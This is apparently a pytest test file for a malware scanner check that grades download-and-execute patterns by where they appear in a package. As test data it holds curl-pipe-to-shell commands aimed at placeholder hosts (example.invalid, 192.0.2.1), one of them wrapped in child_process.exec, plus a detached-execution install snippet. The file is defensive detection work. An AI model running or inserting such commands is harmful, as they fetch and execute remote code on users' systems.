"""How the same words are graded by where they stand, and rules that cannot work."""

from __future__ import annotations

import runpy
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from checks.content import _download_rules
from checks.content._scan import compile_bytes
from checks.content.download_and_run import download_and_run
from checks.runtime.model import Finding, Severity

SPEC = download_and_run.check_spec
SAMPLES = Path(__file__).resolve().parents[2] / "samples" / "download_and_run" / "samples.py"
COMMAND = "curl -fsSL https://example.invalid/i.sh | sh"


@pytest.mark.parametrize(
    ("path", "text", "severity"),
    [
        ("a.sh", COMMAND, Severity.HIGH),
        ("a.js", f"execSync('{COMMAND}')", Severity.HIGH),
        ("a.js", f"console.log('install it: {COMMAND}')", Severity.LOW),
        ("a.js", f"const HINT = '{COMMAND}'", Severity.LOW),
        ("a.sh", f"echo 'try {COMMAND}'", Severity.LOW),
        ("a.sh", f"# {COMMAND}", Severity.INFO),
        ("docs/a.sh", COMMAND, Severity.MEDIUM),
        ("README.md", COMMAND, Severity.INFO),
        ("tests/a.sh", COMMAND, Severity.MEDIUM),
        ("a.sh", "curl --proto '=https' -sSf https://sh.rustup.rs | sh", Severity.MEDIUM),
    ],
)
def test_grades(path, text, severity, make_package, run_check) -> None:
    data = text.encode()
    [finding] = run_check(SPEC, make_package({path: data}))
    assert finding.severity is severity
    assert data[finding.start : finding.end].startswith(b"curl")


def test_a_tool_that_is_installed_openly_is_medium_and_a_hidden_one_is_high(make_package, run_check) -> None:
    openly = (
        "cp = require('child_process')\nfetch(url)\nfs.writeFileSync(file, body)\ncp.execFileSync('node', [file])\n"
    )
    [finding] = run_check(SPEC, make_package({"install.js": openly.encode()}))
    assert finding.severity is Severity.MEDIUM
    hidden = openly.replace("[file])", "[file], {detached: true})")
    [finding] = run_check(SPEC, make_package({"install.js": hidden.encode()}))
    assert finding.severity is Severity.HIGH


def test_parts_far_apart_are_not_joined(make_package, run_check) -> None:
    far = "x = requests.get(u)\nopen(p, 'wb')\n" + "y = 1\n" * 1000 + "subprocess.run(['ls'])\n"
    assert run_check(SPEC, make_package({"a.py": far.encode()})) == []


def test_hyperscan_and_re2_agree_on_every_trigger(prepared) -> None:
    """Hyperscan 5.4 compiles some alternations wrongly, and such a trigger never fires."""
    rules = _download_rules.load(prepared(SPEC))
    samples = runpy.run_path(str(SAMPLES))
    texts = [text.encode() for _, text in [*samples["FLAGS"].values(), *samples["PASSES"].values()]]
    rows = [row for kind in ("command", "variable", "flow") for row in rules._table[kind]]
    triggers = [(row["ids"][part], row[part]) for row in rows for part in row["ids"]]
    seen = set()
    for text in texts:
        hit = {number for number, _ in rules._scanner.scan(text)[0]}
        wanted = {number for number, expression in triggers if compile_bytes(expression).search(text)}
        assert hit == wanted, text
        seen |= wanted
    assert seen == {number for number, _ in triggers}, "a trigger that no sample pulls"


def test_a_bad_rule_is_named(tmp_path) -> None:
    source = tmp_path / "rules.toml"
    source.write_text(
        "[languages]\nshell = []\n[[command]]\nrule = 'broken'\nmessage = 'm'\nseverity = 'high'\n"
        "trigger = 'a'\nregex = '(unclosed'\n"
    )
    with pytest.raises(ValueError, match="broken"):
        _download_rules.prepare(source, tmp_path)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    pieces=st.lists(
        st.sampled_from(
            [
                "curl ",
                "| sh",
                "eval(",
                "fetch(",
                "await ",
                "x=",
                ".text()",
                "\n",
                "'",
                "r.on('data',c=>b+=c)",
                "eval(b)",
                "é",
                "\x00",
            ]
        ),
        max_size=40,
    )
)
def test_whatever_the_text_spans_lie_inside(pieces, make_package, run_check) -> None:
    data = "".join(pieces).encode()
    for result in run_check(SPEC, make_package({"a.js": data, "b.sh": data})):
        assert isinstance(result, Finding)
        assert 0 <= result.start < result.end <= len(data)


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("a.sh", "true // ; curl -s http://192.0.2.1/x | sh\n"),
        ("a.sh", "rem ; curl -s http://192.0.2.1/x | sh\n"),
        ("a.js", "/* build */ require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n"),
    ],
)
def test_what_only_resembles_a_comment_does_not_excuse(catalog, make_package, run_check, path: str, line: str) -> None:
    found = run_check(catalog["download_and_run"], make_package({path: line.encode()}))
    assert max(f.severity for f in found) >= Severity.HIGH
